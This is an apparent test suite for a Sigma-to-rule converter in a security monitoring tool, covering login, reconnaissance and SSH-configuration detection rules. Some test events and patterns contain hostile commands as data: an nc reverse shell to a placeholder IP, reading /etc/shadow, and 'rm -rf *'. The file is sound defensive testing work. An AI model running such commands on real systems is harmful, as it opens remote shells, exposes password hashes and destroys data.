import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import YAML from 'yaml';
import type { SecurityEvent } from '../events/security-event.ts';
import { RuleEngine } from './rule-engine.ts';
import { RuleError } from './rule-error.ts';
import { eventOf, rejection, s } from './rule-fixtures.ts';
import { mapSigmaField } from './sigma-detection.ts';
import { sigmaToRule } from './sigma-import.ts';

const PRIVILEGED_LOGIN = `
title: Failed Login For Privileged Account
id: 2f1b8e0a-6f7b-4c1e-9d5e-3a6c1f0b7e21
status: test
description: Detects a failed local login for root or admin from outside the plant network.
author: Palisade tests
date: 2026-03-01
tags:
    - attack.credential-access
    - attack.t1110
logsource:
    product: linux
    service: auth
detection:
    selection:
        type: auth.login-failed
        user:
            - root
            - admin
    filter_internal:
        fields.source|startswith: '10.'
    condition: selection and not filter_internal
falsepositives:
    - Operators mistyping their password
level: high
`;

const RECON_SHELL = `
title: Reconnaissance Shell On A Gateway
status: experimental
logsource:
    category: process_creation
    product: linux
detection:
    process:
        type: process.started
    selection_img:
        Image|endswith:
            - '/whoami'
            - '/id'
    selection_shadow:
        CommandLine|contains|all:
            - 'cat '
            - '/etc/shadow'
    selection_reverse_shell:
        CommandLine: 'nc -e * ?.?.?.?*'
    condition: process and 1 of selection_*
level: medium
`;

const SSH_CONFIG = `
title: Unexplained change to the SSH daemon configuration
logsource:
    product: palisade
    service: fim
detection:
    selection:
        type: fim.modified
        path|startswith: '/etc/ssh/'
    explained:
        explainedByUpdate: true
    unhashed:
        actualSha256: null
    condition: selection and not (explained or unhashed)
level: critical
`;

const sigma = (yaml: string) => YAML.parse(yaml) as unknown;

/** Which of the events fire the converted rule (suppression off, so each is judged alone). */
function firing(yaml: string, events: SecurityEvent[]): boolean[] {
  const engine = new RuleEngine();
  engine.load([{ ...sigmaToRule(sigma(yaml)), suppressSeconds: 0 }]);
  return events.map((event) => engine.evaluate(event, { at: s(0), group: null }).length === 1);
}

describe('sigmaToRule', () => {
  it('converts a field rule with lists, a modifier and a negated filter', () => {
    const rule = sigmaToRule(sigma(PRIVILEGED_LOGIN));
    assert.equal(rule.id, 'failed-login-for-privileged-account');
    assert.equal(rule.severity, 7);
    assert.equal(rule.enabled, true);
    assert.deepEqual(rule.detect, { kind: 'match' });
    assert.deepEqual(rule.match, {
      all: [
        { field: 'type', op: 'eq', value: 'auth.login-failed', caseInsensitive: true },
        { field: 'fields.user', op: 'in', value: ['root', 'admin'], caseInsensitive: true },
        { not: { field: 'fields.source', op: 'startsWith', value: '10.', caseInsensitive: true } },
      ],
    });
    assert.equal(
      rule.description,
      'Detects a failed local login for root or admin from outside the plant network.\n\n' +
        'Imported from Sigma rule 2f1b8e0a-6f7b-4c1e-9d5e-3a6c1f0b7e21, status test.\n\n' +
        'Tags: attack.credential-access, attack.t1110.\n\nLog source: product=linux, service=auth.\n\n' +
        'False positives: Operators mistyping their password.',
    );
    const login = (user: string, source: string) => eventOf('auth.login-failed', 'gw-1', { user, source });
    assert.deepEqual(
      firing(PRIVILEGED_LOGIN, [
        login('ROOT', '192.0.2.7'),
        login('admin', '10.0.0.9'),
        login('operator', '192.0.2.7'),
        eventOf('auth.login', 'gw-1', { user: 'root', source: '192.0.2.7' }),
      ]),
      [true, false, false, false],
    );
  });

  it('converts endswith, contains|all, wildcards and 1 of a pattern', () => {
    const rule = sigmaToRule(sigma(RECON_SHELL));
    assert.equal(rule.severity, 5);
    const started = (fields: SecurityEvent['fields']) => eventOf('process.started', 'gw-1', fields);
    assert.deepEqual(
      firing(RECON_SHELL, [
        started({ image: '/usr/bin/whoami', commandLine: 'whoami' }),
        started({ image: '/bin/cat', commandLine: 'CAT /etc/shadow' }),
        started({ image: '/bin/cat', commandLine: 'cat /etc/passwd' }),
        started({ image: '/bin/nc', commandLine: 'nc -e /bin/sh 1.2.3.4 4444' }),
        started({ image: '/bin/nc', commandLine: 'nc -l 4444' }),
        eventOf('file.changed', 'gw-1', { image: '/usr/bin/whoami' }),
      ]),
      [true, true, false, true, false, false],
    );
  });

  it('converts booleans, null (field absent) and a parenthesised negation', () => {
    const changed = (fields: SecurityEvent['fields']) => eventOf('fim.modified', 'gw-1', fields);
    assert.equal(sigmaToRule(sigma(SSH_CONFIG)).severity, 9);
    assert.deepEqual(
      firing(SSH_CONFIG, [
        changed({ path: '/etc/ssh/sshd_config', explainedByUpdate: false, actualSha256: 'cd34' }),
        changed({ path: '/etc/ssh/sshd_config', explainedByUpdate: true, actualSha256: 'cd34' }),
        changed({ path: '/etc/ssh/sshd_config', explainedByUpdate: false }),
        changed({ path: '/etc/passwd', explainedByUpdate: false, actualSha256: 'cd34' }),
      ]),
      [true, false, false, false],
    );
  });

  it('matches a number as a number or as its text, and compares with |gte', () => {
    const yaml = `
title: Many attempts
logsource: { product: palisade }
detection:
    selection:
        code: 4625
        attempts|gte: 3
    condition: selection
`;
    assert.deepEqual(
      firing(yaml, [
        eventOf('auth.login-failed', 'gw-1', { code: 4625, attempts: 3 }),
        eventOf('auth.login-failed', 'gw-1', { code: '4625', attempts: 9 }),
        eventOf('auth.login-failed', 'gw-1', { code: 4625, attempts: 2 }),
        eventOf('auth.login-failed', 'gw-1', { code: 4625, attempts: '3' }),
      ]),
      [true, true, false, false],
    );
  });

  it('honours |cased, |exists, escaped wildcards, all of them and condition lists', () => {
    const yaml = `
title: Mixed
logsource: { product: palisade }
detection:
    exact:
        user|cased: Root
    literal_star:
        message|contains: 'rm -rf \\*'
    present:
        tty|exists: true
    _helper:
        user: nobody
    condition:
        - all of them
        - _helper
`;
    const event = (user: string, message: string, fields: SecurityEvent['fields'] = {}) =>
      ({ ...eventOf('auth.login', 'gw-1', { user, ...fields }), message }) as SecurityEvent;
    assert.deepEqual(
      firing(yaml, [
        event('Root', 'ran rm -rf * now', { tty: 'pts/0' }),
        event('root', 'ran rm -rf * now', { tty: 'pts/0' }),
        event('Root', 'ran rm -rf /tmp now', { tty: 'pts/0' }),
        event('Root', 'ran rm -rf * now'),
        event('NOBODY', 'x'),
      ]),
      [true, false, false, false, true],
    );
  });

  it('maps Sigma field names: members by exact name, others to camelCase typed fields', () => {
    assert.equal(mapSigmaField('type'), 'type');
    assert.equal(mapSigmaField('deviceId'), 'deviceId');
    assert.equal(mapSigmaField('CommandLine'), 'fields.commandLine');
    assert.equal(mapSigmaField('EventID'), 'fields.eventID');
    assert.equal(mapSigmaField('c-uri'), 'fields.cUri');
    assert.equal(mapSigmaField('Provider_Name'), 'fields.providerName');
    assert.equal(mapSigmaField('Source'), 'fields.source');
    assert.equal(mapSigmaField('fields.user'), 'fields.user');
    assert.equal(mapSigmaField('4625'), undefined);
    assert.equal(mapSigmaField('x'.repeat(33)), undefined);
  });

  it('takes the id from options, the event types as a prefilter, and imports deprecated rules disabled', () => {
    const doc = { ...(sigma(PRIVILEGED_LOGIN) as object), status: 'deprecated', level: 'informational' };
    const rule = sigmaToRule(doc, { id: 'priv-login', eventTypes: ['auth.login-failed', 'auth.login'] });
    assert.equal(rule.id, 'priv-login');
    assert.equal(rule.enabled, false);
    assert.equal(rule.severity, 1);
    assert.deepEqual(rule.match && 'all' in rule.match ? rule.match.all[0] : undefined, {
      field: 'type',
      op: 'in',
      value: ['auth.login-failed', 'auth.login'],
    });
    assert.equal(sigmaToRule({ ...doc, level: 'low', title: 'Ünïcode — Title! ' }).id, 'unicode-title');
  });

  describe('unsupported features', () => {
    const withSelection = (selection: unknown, extra: Record<string, unknown> = {}) => ({
      title: 'Unsupported',
      logsource: { product: 'linux' },
      detection: { selection, condition: 'selection', ...extra },
    });
    const unsupported = (doc: unknown) => rejection(() => sigmaToRule(doc), 'SIGMA_UNSUPPORTED');

    it('names each unsupported modifier at its field', () => {
      for (const modifier of [
        're',
        're|i',
        'base64',
        'base64offset|contains',
        'cidr',
        'windash',
        'expand',
        'utf16le',
        'fieldref',
        'neq',
      ]) {
        const spec = `CommandLine|${modifier}`;
        assert.deepEqual(
          unsupported(withSelection({ [spec]: 'x' })),
          [`/detection/selection/${spec}`],
          modifier,
        );
      }
      try {
        sigmaToRule(withSelection({ 'CommandLine|re': '(a+)+$' }));
      } catch (error) {
        assert.ok(error instanceof RuleError);
        assert.match(error.message, /\|re modifier.*no regular-expression operator/);
      }
    });

    it('names keyword searches, aggregations, near, timeframe and "2 of"', () => {
      assert.deepEqual(unsupported(withSelection(['EVILSERVICE', 'svchost.exe -n evil'])), [
        '/detection/selection',
      ]);
      assert.deepEqual(unsupported(withSelection({ '|all': ['a', 'b'] })), ['/detection/selection/|all']);
      const aggregation = withSelection(
        { user: 'root' },
        { condition: 'selection | count() by deviceId > 5' },
      );
      assert.deepEqual(unsupported(aggregation), ['/detection/condition']);
      assert.deepEqual(
        unsupported(withSelection({ user: 'root' }, { condition: 'selection near selection' })),
        ['/detection/condition'],
      );
      assert.deepEqual(unsupported(withSelection({ user: 'root' }, { timeframe: '5m' })), [
        '/detection/timeframe',
      ]);
      assert.deepEqual(unsupported(withSelection({ user: 'root' }, { condition: '2 of selection*' })), [
        '/detection/condition',
      ]);
    });

    it('names correlation rules, filters and field names with no Palisade form', () => {
      const correlation = YAML.parse(`
title: Many failed logins
correlation:
    type: event_count
    rules: [failed_login]
    group-by: [deviceId]
    timespan: 5m
    condition: { gte: 10 }
`) as Record<string, unknown>;
      assert.deepEqual(unsupported({ ...correlation, ...withSelection({ user: 'root' }) }), ['/correlation']);
      assert.deepEqual(unsupported({ ...withSelection({ user: 'root' }), filter: { rules: ['x'] } }), [
        '/filter',
      ]);
      assert.deepEqual(unsupported(withSelection({ 'Event-ID-In-A-Very-Long-Windows-Field-Name': 1 })), [
        '/detection/selection/Event-ID-In-A-Very-Long-Windows-Field-Name',
      ]);
    });
  });

  describe('invalid documents', () => {
    const invalid = (doc: unknown) => rejection(() => sigmaToRule(doc), 'SIGMA_INVALID');
    const base = { title: 'T', logsource: { product: 'linux' } };

    it('requires title, logsource, detection and a condition', () => {
      assert.deepEqual(invalid({}).sort(), ['/detection', '/logsource', '/title']);
      assert.deepEqual(invalid({ ...base, detection: { sel: { user: 'root' } } }), ['/detection/condition']);
      assert.deepEqual(invalid('title: not parsed'), ['']);
    });

    it('refuses undefined identifiers, patterns matching nothing and bad syntax', () => {
      const detection = (condition: string) => ({ ...base, detection: { sel: { user: 'root' }, condition } });
      assert.deepEqual(invalid(detection('sel and other')), ['/detection/condition']);
      assert.deepEqual(invalid(detection('1 of filter*')), ['/detection/condition']);
      assert.deepEqual(invalid(detection('sel and')), ['/detection/condition']);
    });

    it('refuses unknown levels and statuses, |all with one value, and non-scalar values', () => {
      assert.deepEqual(
        invalid({ ...base, level: 'severe', detection: { sel: { user: 'root' }, condition: 'sel' } }),
        ['/level'],
      );
      assert.deepEqual(
        invalid({ ...base, status: 'beta', detection: { sel: { user: 'root' }, condition: 'sel' } }),
        ['/status'],
      );
      assert.deepEqual(invalid({ ...base, detection: { sel: { 'user|all': ['root'] }, condition: 'sel' } }), [
        '/detection/sel/user|all',
      ]);
      assert.deepEqual(
        invalid({ ...base, detection: { sel: { user: { name: 'root' } }, condition: 'sel' } }),
        ['/detection/sel/user'],
      );
    });

    it("reports the converted rule's limits with the rule parser's codes", () => {
      const values = Array.from({ length: 70 }, (_, i) => `*v${i}*`);
      const wide = { ...base, detection: { sel: { user: values }, condition: 'sel' } };
      assert.deepEqual(
        rejection(() => sigmaToRule(wide), 'RULE_TOO_COMPLEX'),
        ['/match/any/64'],
      );
      const loose = { ...base, detection: { sel: { 'user|exists': true }, condition: 'sel' } };
      assert.deepEqual(
        rejection(() => sigmaToRule(loose), 'RULE_INVALID'),
        ['/match'],
      );
    });

    it('never throws anything but a RuleError for arbitrary input', () => {
      const detection = fc.dictionary(
        fc.constantFrom('sel', 'filter', 'condition', 'timeframe', '_x'),
        fc.oneof(fc.constantFrom('sel', 'sel and not filter', '1 of them'), fc.anything({ maxDepth: 2 })),
      );
      const doc = fc.record({
        title: fc.oneof(fc.string(), fc.anything()),
        logsource: fc.anything(),
        detection,
      });
      fc.assert(
        fc.property(fc.oneof(doc, fc.anything()), (input) => {
          try {
            sigmaToRule(input);
          } catch (error) {
            assert.ok(error instanceof RuleError, String(error));
          }
        }),
        { numRuns: 1000 },
      );
    });
  });
});
